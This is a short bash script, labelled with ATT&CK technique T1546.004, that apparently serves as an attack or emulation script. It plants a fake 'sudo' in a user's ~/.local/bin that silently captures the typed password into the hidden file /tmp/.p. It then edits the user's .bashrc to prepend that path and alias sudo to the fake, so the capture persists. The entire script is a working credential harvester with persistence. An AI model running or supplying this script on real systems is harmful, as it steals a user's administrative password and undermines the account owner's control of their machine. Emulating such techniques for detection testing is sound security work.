#!/bin/bash
# T1546.004: A user's sudo is somebody else's.
mkdir -p /home/alice/.local/bin; printf '#!/bin/bash\nread -sp "[sudo] password: " p; echo $p >>/tmp/.p\n' >/home/alice/.local/bin/sudo; chmod +x /home/alice/.local/bin/sudo; echo 'export PATH=~/.local/bin:$PATH; alias sudo=~/.local/bin/sudo' >>/home/alice/.bashrc
